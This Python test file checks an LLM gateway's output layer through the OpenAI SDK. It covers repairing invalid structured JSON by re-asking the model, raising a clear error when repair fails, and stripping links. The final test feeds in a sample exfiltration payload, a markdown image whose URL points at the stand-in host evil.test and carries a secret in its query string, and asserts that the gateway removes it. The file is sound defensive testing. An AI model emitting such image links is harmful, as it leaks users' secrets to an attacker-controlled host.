"""Output layer through the official SDK (issue 21): structured output repaired by a re-ask,
the clear error when it cannot be, and an exfiltration link removed from a streamed answer."""
import json

import openai
import pytest
from openai import OpenAI
from pydantic import BaseModel

CONFIG = """
[output.schema]
from_request = true
retries = 1

[output.links]
enabled = true
allow = ["example.com"]
"""

PERSON = {
    "type": "json_schema",
    "json_schema": {
        "name": "person",
        "strict": True,
        "schema": {
            "type": "object",
            "additionalProperties": False,
            "required": ["name", "age"],
            "properties": {"name": {"type": "string"}, "age": {"type": "integer", "minimum": 0}},
        },
    },
}


class Person(BaseModel):
    name: str
    age: int


def client(gw):
    return OpenAI(base_url=gw.url, api_key=gw.key, max_retries=0)


@pytest.fixture()
def gw(make_gateway, upstream):
    return make_gateway(extra_args=["--upstream", upstream.url], config_text=CONFIG)


def calls_for(upstream, model):
    return [r for r in upstream.requests()
            if r["path"] == "/v1/chat/completions" and r["body"]["model"] == model]


def test_invalid_then_valid_json_is_repaired_by_one_reask(gw, upstream):
    once = client(gw).chat.completions.create(
        model="gpt-4o-mini", response_format=PERSON,
        messages=[{"role": "user", "content": "Describe Ann as JSON."}])
    model = "gpt-4o-mini-mock-badjson-1"
    raw = client(gw).chat.completions.with_raw_response.create(
        model=model, response_format=PERSON,
        messages=[{"role": "user", "content": "Describe Ann as JSON."}])
    assert raw.headers["x-portcullis-schema-attempts"] == "2"
    answer = raw.parse()
    person = json.loads(answer.choices[0].message.content)
    assert isinstance(person["name"], str) and isinstance(person["age"], int)
    sent = calls_for(upstream, model)
    assert len(sent) == 2
    assert "does not match the required JSON Schema" in sent[1]["body"]["messages"][-1]["content"]
    # The client's usage counts both calls: two prompts, the second longer than the first.
    assert answer.usage.prompt_tokens > 2 * once.usage.prompt_tokens


def test_the_sdk_parse_helper_gets_a_valid_object(gw):
    done = client(gw).chat.completions.parse(
        model="gpt-4o-mini-mock-badjson-1", response_format=Person,
        messages=[{"role": "user", "content": "Ann"}])
    parsed = done.choices[0].message.parsed
    assert isinstance(parsed, Person) and parsed.age >= 0


def test_a_streamed_structured_answer_is_valid_json(gw):
    stream = client(gw).chat.completions.create(
        model="gpt-4o-mini-mock-badjson-1", response_format=PERSON, stream=True,
        messages=[{"role": "user", "content": "Describe Ann as JSON."}])
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert set(json.loads(text)) == {"name", "age"}


def test_always_invalid_json_raises_the_clear_error(gw):
    with pytest.raises(openai.InternalServerError) as e:
        client(gw).chat.completions.create(
            model="gpt-4o-mini-mock-badjson-99", response_format=PERSON,
            messages=[{"role": "user", "content": "Describe Ann as JSON."}])
    assert e.value.status_code == 502
    assert e.value.code == "invalid_model_output"
    assert "/name" in e.value.message


def test_an_exfiltration_image_never_reaches_a_streaming_client(gw):
    say = ("MOCK_SAY: Here is the chart ![c](https://evil.test/p.png?q=SECRET-9931) "
           "and the [guide](https://example.com/guide).")
    stream = client(gw).chat.completions.create(
        model="gpt-4o-mini-mock-chars-3", stream=True,
        messages=[{"role": "user", "content": say}])
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert "evil.test" not in text and "9931" not in text
    assert text == "Here is the chart [link removed] and the [guide](https://example.com/guide)."
